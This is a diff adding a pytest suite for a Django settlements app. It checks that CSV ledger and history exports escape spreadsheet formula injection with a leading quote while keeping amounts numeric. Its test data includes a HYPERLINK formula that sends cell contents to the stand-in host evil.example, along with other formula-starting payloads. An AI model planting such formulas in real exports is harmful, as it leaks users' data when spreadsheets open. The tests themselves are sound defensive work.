@@ -1,0 +1,128 @@
+"""CSV exports open safely in a spreadsheet (settlements.csv_export): text that would start a
+formula is escaped with a leading quote, amounts stay numbers, in every export."""
+
+import csv
+import io
+import json
+from decimal import Decimal
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from settlements import ledger, services
+from settlements.csv_export import FORMULA_STARTS, safe_cell
+from settlements.services import AdjustmentEntry, CompensationEntry
+from tests.conftest import build_snapshot
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
+# The characters OWASP lists, their full-width forms, and ids that begin with them.
+HOSTILE = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠A1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["alice", "p000001", "1+1", " =1", "'=1", "", "x=1", "€-5"])
+def test_other_text_is_left_as_it_is(value):
+    assert safe_cell(value) == value
+
+
+@pytest.mark.parametrize("value", [-250, 0, 12345, Decimal("-2.50"), Decimal("12.345"), None])
+def test_numbers_stay_numbers(value):
+    assert safe_cell(value) is value
+
+
+def read(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+# Ids may not hold a tab or carriage return (settlements.player_ids), so those two are tried
+# in a reason, which may.
+HOSTILE_IDS = [text for text in HOSTILE if text[0] not in "\t\r"]
+
+
+@pytest.fixture
+def hostile_case(operator):
+    """A case whose tournament id and player ids are formulas."""
+    doc = build_snapshot(tournament_id=HYPERLINK, stage="late", entrants=len(HOSTILE_IDS))
+    for player, text in zip(doc["players"], HOSTILE_IDS, strict=True):
+        player["id"] = text
+    return services.case_load_snapshot(actor=operator, snapshot=json.dumps(doc))
+
+
+def assert_escaped(rows: list[dict], column: str, expected: set[str]) -> None:
+    assert {row[column] for row in rows} >= {"'" + text for text in expected}
+    for row in rows:
+        assert row[column][:1] not in FORMULA_STARTS, row
+
+
+@pytest.mark.django_db
+def test_ledgers_escape_ids_and_keep_amounts_numeric(
+    operator, tournament_manager, second_manager, hostile_case
+):
+    case = hostile_case
+    settlement = services.settlement_prepare(case=case, actor=operator)
+    settlement = services.settlement_submit(settlement=settlement, actor=operator)
+    settlement = services.settlement_approve(settlement=settlement, actor=tournament_manager)
+    rows = read("".join(ledger.settlement_ledger_csv(settlement)))
+    assert_escaped(rows, "tournament", {HYPERLINK})
+    paid = {row["player"] for row in rows}
+    assert paid and all(player.startswith("'") for player in paid)
+
+    # An adjustment's reversal is a negative amount: still a number, not text with a quote.
+    first = settlement.lines.order_by("line_no").first()
+    adjustment = services.settlement_adjust(
+        settlement=settlement,
+        actor=operator,
+        reason="-1 wrong line",
+        entries=[
+            AdjustmentEntry(first.player, first.kind, first.unit, -first.amount, first.source)
+        ],
+    )
+    adjustment = services.settlement_submit(settlement=adjustment, actor=operator)
+    adjustment = services.settlement_approve(settlement=adjustment, actor=second_manager)
+    [reversal] = read("".join(ledger.settlement_ledger_csv(adjustment)))
+    assert reversal["amount_minor"] == str(-first.amount)
+    assert reversal["amount"] == ledger.decimal_amount(-first.amount, first.unit, "USD")
+    assert reversal["amount"].startswith("-")
+    assert reversal["player"] == "'" + first.player
+
+    compensation = services.compensation_propose(
+        case=case,
+        actor=operator,
+        reason="@lag",
+        entries=[CompensationEntry(text, 100) for text in HOSTILE_IDS],
+    )
+    compensation = services.compensation_approve(
+        compensation=compensation, actor=tournament_manager
+    )
+    rows = read("".join(ledger.compensation_ledger_csv(compensation)))
+    assert_escaped(rows, "player", set(HOSTILE_IDS))
+    assert_escaped(rows, "tournament", {HYPERLINK})
+    assert {row["amount"] for row in rows} == {"1.00"}
+
+
+@pytest.mark.django_db
+def test_the_history_export_escapes_ids_and_reasons(
+    operator, tournament_manager, auditor, hostile_case
+):
+    services.case_withdraw(case=hostile_case, actor=operator, reason="\t=1+1 " + HYPERLINK)
+    client = Client()
+    client.force_login(auditor)
+    for view in ("changes", "events"):
+        response = client.get(reverse("history_export"), {"view": view})
+        rows = read(b"".join(response.streaming_content).decode())
+        reasons = {row["reason"] for row in rows if row["reason"]}
+        # The service trims the reason; what is left still starts a formula.
+        assert "'=1+1 " + HYPERLINK in reasons
+        for row in rows:
+            assert all(value[:1] not in FORMULA_STARTS for value in row.values()), row
+    events = read(
+        b"".join(
+            client.get(reverse("history_export"), {"view": "events"}).streaming_content
+        ).decode()
+    )
+    assert "'" + HYPERLINK in {row["tournament"] for row in events}
